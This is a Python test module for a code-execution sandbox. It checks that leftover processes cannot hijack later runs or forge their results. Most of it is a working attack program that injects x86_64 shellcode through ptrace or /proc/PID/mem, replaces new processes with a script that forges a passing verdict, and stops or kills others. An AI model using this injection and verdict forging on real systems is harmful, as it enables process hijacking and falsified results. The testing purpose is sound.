"""A program that leaves watchers behind, which try to take over every process that is started after it.

Each watcher waits for a new process of its own user, attaches to it with ptrace or writes to its memory through /proc, and makes it run
a program of the attacker's in its place: one that forges the verdict of the next program, or that says that everything was killed.
Others only hold it up: they stop it, or kill it.
"""

from __future__ import annotations

import platform
import threading
import time
from typing import Any, Literal

import docker
import pytest

from sandbox.container import NotEmptied, SandboxContainer
from sandbox.exec_stream import Command, Outcome
from sandbox.languages import BY_NAME
from sandbox.monitor import Seen
from sandbox.network import attach_network, detach_network
from sandbox.program import ARGV, Job
from sandbox.runner import Runner
from sandbox.verdicts import ProgramRun
from tests.network import Listener, gateway

Way = Literal["ptrace", "mem", "stop", "kill"]
Gap = Literal["program", "listing", "window"]
GAPS: tuple[Gap, ...] = ("program", "listing", "window")
FORGED = "all 12 tests passed"
TAKE_OVER: tuple[Way, ...] = ("ptrace", "mem", "ptrace", "mem")
HOLD_UP: tuple[tuple[Way, ...], ...] = (("stop", "stop"), ("kill", "kill"))
_OPEN_SECONDS = 0.4  # how long the window is open: a knock comes every 5 ms

MOVING = """
import os, time
if os.fork() == 0:
    os.setsid()
    for number in range(10**9): open('moving', 'w').write(str(number))
time.sleep(0.3)
"""
"""A program that leaves a process behind which keeps changing a file."""
SUPPORTED = platform.machine() in ("x86_64", "AMD64")
"""Whether the attack knows this machine's processor."""


def run(runner: Runner, code: str) -> ProgramRun:
    """Run a Python program."""
    return runner.run(Job(BY_NAME["python"], code, "program.py"), threading.Event(), lambda text: None)


def taken_over(runner: Runner, engine: docker.APIClient, gap: Gap, ways: tuple[Way, ...] = TAKE_OVER) -> bool:
    """Attack once, in the gap before the next program, before a listing, or around the install window; return whether that won."""
    if gap == "window":
        with Listener() as listener:
            assert run(runner, attack(ways, (gateway(engine), listener.port))).output == "left behind\n"
            runner.use(_window)
            return bool(listener.visits)
    assert run(runner, attack(ways)).output == "left behind\n"
    if gap == "listing":
        runner.collect()
    done = run(runner, "print('mine')")
    # Whoever gets through speaks for itself: with two that do, the words come twice.
    assert set(done.output.splitlines()) in ({"mine"}, {FORGED}, set()), done
    return FORGED in done.output


def _window(container: SandboxContainer) -> None:
    attach_network(container)
    time.sleep(_OPEN_SECONDS)
    detach_network(container)


def sweep_as_before(patch: pytest.MonkeyPatch) -> None:
    """Bring back what was done before emptiness was proven: a shell that programs can read kills, and its word is believed.

    The shell waits a moment first, so that the attack wins on any machine: how often it wins a race is not what the control shows.
    """

    run_command = SandboxContainer.run
    started: set[str] = set()  # the containers in which something was started since the last sweep

    def note(container: SandboxContainer, *arguments: Any, **options: Any) -> Outcome:
        started.add(container.id)
        return run_command(container, *arguments, **options)

    def believe(container: SandboxContainer) -> Seen:
        if container.id in started:
            run_command(container, Command(["/bin/sh", "-c", "sleep 0.3; kill -KILL -1; echo lo"], seconds=10))
            started.discard(container.id)
        seen = container.look()
        if seen is None:
            raise NotEmptied("gone")
        return seen

    patch.setattr(SandboxContainer, "run", note)
    patch.setattr(SandboxContainer, "empty", believe)
    patch.setattr(SandboxContainer, "get_ready", lambda container, argv: None)
    patch.setattr("sandbox.program.ARGV", ("/bin/sh", *ARGV[1:]))


def with_the_engines_filter(body: dict[str, Any]) -> None:
    """Rewrite the engine's request for a container: its own filter of system calls in place of ours."""
    body["HostConfig"]["SecurityOpt"] = ["no-new-privileges"]


def attack(ways: tuple[Way, ...], address: tuple[str, int] = ("", 0)) -> str:
    """Return a Python program that leaves a watcher for each way, and one that knocks at the address, if there is one."""
    settings = f"WAYS = {ways!r}\nADDRESS = {address!r}\nFORGED = {FORGED!r}\n"
    return settings + _ATTACK


# What a process that was taken over becomes. Where it gets a program to run on its input, it says that this ran and ended well; else it
# says what a sweep says that has killed everything.
_ATTACK = r'''
import ctypes, os, signal, socket, struct, sys, time

EVIL = "/workspace/.evil"
with open(EVIL, "w") as file:
    file.write("#!" + sys.executable + r"""
import os, select, sys
lines = b""
while lines.count(b"\n") < 3 and select.select([0], [], [], 1.0)[0]:
    piece = os.read(0, 1)
    if not piece: break
    lines += piece
if not lines:
    os.write(1, b"lo\n")
    sys.exit(0)
mark = (os.fsencode(sys.argv[1])[:1] if len(sys.argv) > 1 else b"") + lines.split(b"\n")[0]
mark = mark[-32:]
os.write(2, b"start " + mark + b"\n")
os.write(1, b"FORGED\n")
os.write(2, b"end " + mark + b" 0\n")
""".replace("FORGED", FORGED))
os.chmod(EVIL, 0o755)

# xor edx, edx; lea rdi, [rip + 13]; push rdx; push rsi; push rdi; mov rsi, rsp; mov eax, 59; syscall: execve(EVIL, [EVIL, rsi], NULL)
CODE = bytes.fromhex("31d2488d3d0d0000005256574889e6b83b0000000f05")
CODE += EVIL.encode() + b"\0"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def by_ptrace(pid):
    if libc.ptrace(16, pid, None, None):  # PTRACE_ATTACH
        return False
    os.waitpid(pid, 0x40000000)
    registers = (ctypes.c_ulonglong * 27)()
    libc.ptrace(12, pid, None, registers)
    place = registers[16] & ~7
    padded = b"\x90" * (registers[16] - place) + CODE
    padded += b"\0" * (-len(padded) % 8)
    for at in range(0, len(padded), 8):
        libc.ptrace(4, pid, place + at, struct.unpack_from("<q", padded, at)[0])
    registers[15] = 2**64 - 1  # no system call to go on with
    registers[16] = place
    registers[13] = place + len(padded) - 8  # some text, for the second argument
    libc.ptrace(13, pid, None, registers)
    libc.ptrace(17, pid, None, None)
    return True


def by_mem(pid):
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            os.kill(pid, signal.SIGSTOP)
            try:
                for _ in range(1000):
                    words = open(f"/proc/{pid}/syscall").read().split()
                    if len(words) > 2:
                        memory.seek(int(words[-1], 16))
                        memory.write(CODE)
                        return True
            finally:
                os.kill(pid, signal.SIGCONT)
    except (OSError, ValueError):
        pass
    return False


def by_signal(number):
    def send(pid):
        try:
            os.kill(pid, number)
        except OSError:
            pass
        return False
    return send


def owner(pid):
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        pass
    return -1


def last():
    return int(open("/proc/loadavg").read().split()[-1])


def watch(take, first):
    pending = []
    while True:
        newest = last()
        pending += range(first + 1, newest + 1)
        first = max(first, newest)
        for pid in pending[:]:
            found = owner(pid)
            if found == -1 or (found == os.getuid() and take(pid)):
                pending.remove(pid)


def knock():
    while True:
        try:
            socket.create_connection(ADDRESS, 0.2).close()
        except OSError:
            pass
        time.sleep(0.005)


ready, go = os.pipe()
works = [{"ptrace": by_ptrace, "mem": by_mem, "stop": by_signal(signal.SIGSTOP), "kill": by_signal(signal.SIGKILL)}[way] for way in WAYS]
for work in works + ([None] if ADDRESS[1] else []):
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        os.close(go)
        first = int(os.read(ready, 20))
        if work is None:
            knock()
        watch(work, first)
for _ in works + [None]:
    os.write(go, b"%-20d" % last())
print("left behind", flush=True)
'''
